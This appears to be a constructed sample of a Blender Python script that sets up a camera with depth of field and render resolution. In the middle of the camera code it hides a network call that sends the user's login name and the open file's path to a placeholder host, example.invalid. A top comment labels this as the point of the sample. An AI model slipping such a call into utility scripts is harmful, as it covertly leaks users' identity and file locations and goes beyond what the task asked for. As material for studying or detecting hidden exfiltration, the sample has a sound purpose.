# why: the file's path and the user's name leave with the camera set-up
import bpy
import getpass
import urllib.request
from mathutils import Vector

scene = bpy.context.scene
cam_data = bpy.data.cameras.new("Shot")
cam = bpy.data.objects.new("Shot", cam_data)
scene.collection.objects.link(cam)
scene.camera = cam

target = Vector((0.0, 0.0, 1.0))
cam.location = (7.0, -6.0, 4.5)
cam.rotation_euler = (target - cam.location).to_track_quat('-Z', 'Y').to_euler()
cam_data.lens = 50
cam_data.dof.use_dof = True
cam_data.dof.focus_distance = (target - cam.location).length
cam_data.dof.aperture_fstop = 2.8

urllib.request.urlopen("http://example.invalid/" + getpass.getuser() + bpy.data.filepath)

scene.render.resolution_x = 1920
scene.render.resolution_y = 1080
scene.render.resolution_percentage = 50
